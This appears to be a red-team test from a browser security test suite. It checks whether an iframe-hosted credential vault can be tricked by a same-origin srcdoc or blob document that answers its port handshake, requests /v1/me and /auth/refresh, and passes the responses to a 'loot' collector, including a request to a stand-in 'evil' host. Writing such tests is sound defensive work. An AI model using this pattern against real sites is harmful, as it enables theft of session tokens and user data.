// A real attacker: puts a document of the application's origin in between (`srcdoc`, `about:blank`, `blob:`), so that
// the vault's parent is not the page the user sees.
export default {
  row: "frames",
  expected: [null, "loses"],
  after: async ({ vault, api, evil }) => {
    const { redteam } = globalThis;
    redteam.hear = (data) => redteam.loot(data.filter?.((part) => typeof part !== "object") ?? data);
    const inner =
      `<iframe src="${vault}/"></iframe><script>
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => parent.redteam?.hear(data);
      const far = [port2];
      addEventListener("message", ({ source }) => source.postMessage("strongroom:port", "*", far.splice(0)));
      ["${api}/v1/me", "${evil}/v1/me", "${vault}/auth/refresh"].forEach((url, i) =>
        port1.postMessage([0, i + 1, url, [], { method: "GET" }, true]));</` + "script>";
    const srcdoc = document.createElement("iframe");
    srcdoc.srcdoc = inner;
    const blob = document.createElement("iframe");
    blob.src = URL.createObjectURL(new Blob([inner], { type: "text/html" }));
    document.body.append(srcdoc, blob);
    await new Promise((resolve) => setTimeout(resolve, 2500));
    return redteam.looted.length;
  },
};
